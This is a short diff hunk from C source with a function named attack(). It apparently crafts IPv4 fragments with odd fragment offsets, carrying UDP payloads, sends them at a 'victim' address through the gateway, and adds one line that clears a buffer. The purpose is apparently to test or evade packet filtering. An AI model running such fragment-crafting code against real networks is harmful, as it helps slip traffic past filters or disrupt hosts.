@@ -170,6 +170,7 @@ static void attack(char **a) {
   inner[4] = 0, inner[5] = 100;
   send_frame(gateway_mac, ETH_P_IP, packet, ip4(packet, own, victim, 17, 0x2000, 0, 0, inner, 48));
   send_frame(gateway_mac, ETH_P_IP, packet, ip4(packet, own, victim, 17, 6, 0, 0, inner + 48, 52));
+  memset(inner, 0, sizeof inner);
   udp(inner, 9, "");
   strcpy((char *)inner + 8, "as allowed, so without a mark");
   inner[4] = 0, inner[5] = 100;
